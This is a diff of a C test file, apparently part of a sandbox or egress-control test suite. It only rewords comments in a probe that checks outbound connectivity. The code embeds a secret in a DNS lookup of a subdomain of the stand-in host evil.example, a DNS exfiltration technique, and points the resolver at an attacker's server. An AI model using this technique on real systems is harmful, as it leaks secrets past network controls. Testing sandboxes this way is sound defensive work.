@@ -1,6 +1,6 @@
 // class: network
 // rule: outbound_connectivity
-// success: a C program sets the resolver's own state to ask a server of the attacker's
+// success: a C program sets the resolver's state to a server of the attacker
 // proof: udp
 #include "attack.h"
 #include <netdb.h>
@@ -18,7 +18,7 @@ int main(void)
     _res.retry = 1;
     snprintf(name, sizeof name, "%s.evil.example", SECRET_);
     int error = getaddrinfo(name, "443", NULL, &found);
-    /* Nobody answers there: to have asked is success, and errno says whether a packet could leave. */
+    /* No server answers there. To have asked is success; errno tells whether a packet left. */
     if (error == EAI_FAIL) return stopped("getaddrinfo");
     return reached();
 }
